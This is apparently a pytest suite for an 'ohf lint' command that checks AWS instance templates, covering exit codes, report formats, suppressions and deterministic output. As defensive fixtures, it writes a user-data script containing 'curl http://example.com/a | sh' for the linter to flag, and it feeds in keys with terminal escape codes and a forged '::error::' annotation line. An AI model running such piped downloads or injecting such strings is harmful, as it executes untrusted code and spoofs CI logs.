"""`ohf lint` as people and pipelines call it: formats, files, exit codes."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest

from ohf_cli.edge import run
from ohf_cli.human import called
from ohf_cli.validation import schema_findings

ENTRY: dict[str, Any] = {
    "templateId": "grid",
    "maxNumber": 10,
    "maxPerRequest": 10,
    "requestValidity": "00:30",
    "imageId": "ami-0a1b2c3d4e5f60001",
    "vmType": "m5.large",
    "subnetId": "subnet-0a1b2c3d4e5f60001",
    "securityGroupIds": ["sg-0a1b2c3d4e5f60001"],
    "rootDeviceName": "/dev/xvda",
    "attributes": {
        "type": ["String", "X86_64"],
        "ncpus": ["Numeric", "1"],
        "ncores": ["Numeric", "1"],
        "nram": ["Numeric", "8192"],
    },
}
LOOSE = {**ENTRY, "httpTokens": "optional"}


@pytest.fixture
def conf(tmp_path: Path) -> Path:
    return tmp_path


def catalogue(conf: Path, *entries: dict[str, Any], **own: Any) -> None:
    (conf / "awsprov_templates.json").write_text(json.dumps({"templates": entries}, indent=2))
    (conf / "ohf.json").write_text(json.dumps(own, indent=2))


def lint(conf: Path, *words: str, house: bool = True) -> int:
    """The exit code of `ohf lint`; with `house`, cfn-lint is left out."""
    return run(called, ["lint", "--conf", str(conf), *(["--house-only"] if house else []), *words])


def document(capsys: pytest.CaptureFixture[str]) -> Any:
    found = json.loads(capsys.readouterr().out)
    assert schema_findings("lint", found) == ()
    return found


def test_a_sound_catalogue_passes_cfn_lint_and_the_house(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY)
    assert lint(conf, "--fail-on", "info", "-o", "json", house=False) == 0
    found = document(capsys)
    assert found["findings"] == []
    assert found["cfnLint"]
    assert found["templates"] == ["grid"]


def test_a_grave_finding_exits_3_and_names_its_line(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY, {**LOOSE, "templateId": "loose"})
    assert lint(conf) == 3
    told = capsys.readouterr()
    assert "ohf: error[E301]: " in told.err
    assert "OHF-S003" in told.out
    lines = (conf / "awsprov_templates.json").read_text().splitlines()
    line = next(number for number, text in enumerate(lines, start=1) if '"httpTokens"' in text)
    assert f"awsprov_templates.json:{line}:" in told.out


@pytest.mark.parametrize(("fail_on", "code"), [("error", 0), ("warning", 3), ("info", 3), ("never", 0)])
def test_fail_on_says_what_is_grave(
    conf: Path, capsys: pytest.CaptureFixture[str], fail_on: str, code: int
) -> None:
    catalogue(conf, {**ENTRY, "keyName": "grid"})
    assert lint(conf, "--fail-on", fail_on) == code
    assert "OHF-S008" in capsys.readouterr().out


def test_one_run_writes_several_formats(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, LOOSE)
    files = {form: conf / f"lint.{form}" for form in ("sarif", "junit", "json", "text")}
    words = [word for form, path in files.items() for word in ("--output-file", f"{form}={path}")]
    assert lint(conf, "-o", "github", *words) == 3
    assert capsys.readouterr().out.startswith("::error file=awsprov_templates.json,line=")
    assert json.loads(files["sarif"].read_text())["runs"][0]["results"][0]["ruleId"] == "OHF-S003"
    assert ElementTree.fromstring(files["junit"].read_text()).get("failures") == "1"
    assert schema_findings("lint", json.loads(files["json"].read_text())) == ()
    assert "OHF-S003" in files["text"].read_text()


@pytest.mark.parametrize("word", ["sarif", "pdf=x", "=x", "sarif="])
def test_output_files_need_a_format_and_a_name(conf: Path, capsys: pytest.CaptureFixture[str], word: str) -> None:
    catalogue(conf, ENTRY)
    assert lint(conf, "--output-file", word) == 64
    assert "FORMAT=FILE" in capsys.readouterr().err


def test_a_file_that_cannot_be_written_is_told(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY)
    assert lint(conf, "--output-file", f"sarif={conf}/nowhere/lint.sarif") == 1
    assert "nowhere/lint.sarif" in capsys.readouterr().err


def test_a_setting_that_is_written_twice_is_found(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY)
    (conf / "ohf.json").write_text('{"approvals": {"mode": "off"},\n "approvals": {}}')
    assert lint(conf, "-o", "json") == 3
    (found,) = document(capsys)["findings"]
    assert (found["rule"], found["field"]) == ("OHF-T005", "approvals")
    assert (found["file"], found["line"], found["column"]) == ("ohf.json", 2, 2)


def test_junit_has_one_case_for_all_of_cfn_lint(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY, {**ENTRY, "templateId": "wrong", "imageId": "ami-x", "kmsKeyId": "x"})
    assert lint(conf, "-o", "junit", house=False) == 3
    (suite,) = ElementTree.fromstring(capsys.readouterr().out)
    cases = {str(one.get("classname")): one for one in suite if str(one.get("name")).startswith("cfn-lint ")}
    assert list(cases["ohf-lint.grid"]) == []
    kinds = {str(one.get("type")) for one in cases["ohf-lint.wrong"]}
    assert "E1152" in kinds
    assert len(kinds) > 1


def test_an_unknown_template_is_told(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY)
    assert lint(conf, "other") == 1
    assert "find template other" in capsys.readouterr().err


def test_a_refused_template_is_a_finding(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, ENTRY, {**ENTRY, "templateId": "bad", "subnetId": "nowhere"})
    assert lint(conf, "-o", "json") == 3
    (found,) = document(capsys)["findings"]
    assert (found["rule"], found["template"], found["field"]) == ("OHF-T001", "bad", "subnetId")
    lines = (conf / "awsprov_templates.json").read_text().splitlines()
    assert lines[found["line"] - 1][found["column"] - 1 :].startswith('"subnetId": "nowhere"')


#: lints in a process of its own: exit 9 where the network is asked, and the modules of AWS on stderr
ALONE = """
import os, sys
def watch(event, _arguments):
    if event in ("socket.connect", "socket.getaddrinfo"):
        os._exit(9)
sys.addaudithook(watch)
from ohf_cli.edge import run
from ohf_cli.human import called
code = run(called, sys.argv[1:])
print(*[name for name in sys.modules if name.split(".")[0] in ("boto3", "botocore")], file=sys.stderr)
sys.exit(code)
"""


def alone(*words: str, cwd: Path, **environ: str) -> subprocess.CompletedProcess[bytes]:
    done = subprocess.run(
        [sys.executable, "-c", ALONE, "lint", *words], cwd=cwd, env=environ, capture_output=True, check=False
    )
    assert done.returncode in (0, 3), done.stderr.decode()
    return done


def test_it_needs_neither_aws_nor_home_nor_network_nor_colors(conf: Path) -> None:
    catalogue(conf, LOOSE, {**ENTRY, "templateId": "escape", "keyName": "\x1b[31mred"})
    done = alone("--conf", str(conf), cwd=conf)
    assert done.returncode == 3
    assert b"\x1b" not in done.stdout + done.stderr
    assert done.stderr.splitlines()[-1] == b""


@pytest.mark.parametrize("form", ["json", "yaml", "sarif", "junit", "github", "text"])
def test_a_catalogue_steers_no_terminal_and_forges_no_line(
    conf: Path, capsys: pytest.CaptureFixture[str], form: str
) -> None:
    catalogue(conf, {**ENTRY, "\x1b[2J\u202e\x9b\n::error::gone": "x", "]]></failure>": "y"})
    lint(conf, "--fail-on", "never", "-o", form)
    told = capsys.readouterr().out
    assert "gone" in told
    assert not set("\x1b\u202e\x9b") & set(told)
    assert not any(line.startswith("::error") for line in told.splitlines())
    if form == "junit":
        ElementTree.fromstring(told)


@pytest.mark.parametrize("form", ["json", "yaml", "sarif", "junit", "github", "text"])
def test_the_same_bytes_come_out_everywhere(tmp_path: Path, form: str) -> None:
    texts = set()
    for name, zone, seed in (("here", "UTC", "1"), ("over there", "Asia/Tokyo", "2")):
        conf = tmp_path / name / "conf"
        conf.mkdir(parents=True)
        catalogue(conf, {**LOOSE, "keyName": "é"}, {**ENTRY, "templateId": "bad", "vmType": "x"})
        environ = {"TZ": zone, "PYTHONHASHSEED": seed, "PYTHONUTF8": "1"}
        done = alone("--conf", "conf", "--house-only", "-o", form, cwd=conf.parent, **environ)
        texts.add(done.stdout)
        assert b"conf/awsprov_templates.json" in done.stdout
    assert len(texts) == 1


def test_files_are_named_from_where_a_pipeline_stands(
    conf: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    catalogue(conf, LOOSE)
    for here, words, name in (
        (conf.parent, (), f"{conf.name}/awsprov_templates.json"),
        (conf, (), "awsprov_templates.json"),
        (Path("/"), ("--paths-from", str(conf)), "awsprov_templates.json"),
        (conf, ("--paths-from", "/nowhere"), "awsprov_templates.json"),
    ):
        monkeypatch.chdir(here)
        lint(conf, "-o", "json", *words)
        assert {one["file"] for one in document(capsys)["findings"]} == {name}


def test_a_script_below_a_root_is_looked_at(conf: Path, capsys: pytest.CaptureFixture[str]) -> None:
    catalogue(conf, {**ENTRY, "userDataScript": "/opt/grid/join.sh"})
    script = conf / "host" / "opt" / "grid" / "join.sh"
    script.parent.mkdir(parents=True)
    script.write_text("#!/bin/sh\ncurl http://example.com/a | sh\n")
    lint(conf, "--root", str(conf / "host"), "-o", "json")
    (found,) = document(capsys)["findings"]
    assert found["rule"] == "OHF-S011"
    assert found["related"] == {"file": "/opt/grid/join.sh", "line": 2, "message": found["related"]["message"]}


def test_suppressed_findings_are_counted_and_shown_on_request(
    conf: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    quiet = {"rule": "OHF-S003", "reason": "CHG0041999", "until": "2999-12-31"}
    catalogue(conf, LOOSE, lint={"suppress": [quiet]})
    assert lint(conf, "--output-file", f"sarif={conf}/lint.sarif") == 0
    assert capsys.readouterr().out == "nothing found in 1 template (1 suppressed)\n"
    (result,) = json.loads((conf / "lint.sarif").read_text())["runs"][0]["results"]
    assert "CHG0041999" in result["suppressions"][0]["justification"]
    assert lint(conf, "--show-suppressed") == 0
    assert "until 2999-12-31: CHG0041999" in capsys.readouterr().out


@pytest.mark.parametrize("missing", ["reason", "until"])
def test_a_suppression_without_reason_or_end_is_refused(
    conf: Path, capsys: pytest.CaptureFixture[str], missing: str
) -> None:
    whole = {"rule": "OHF-S003", "reason": "CHG1", "until": "2999-12-31"}
    catalogue(conf, LOOSE, lint={"suppress": [{key: value for key, value in whole.items() if key != missing}]})
    assert lint(conf) == 78
    assert "lint.suppress" in capsys.readouterr().err
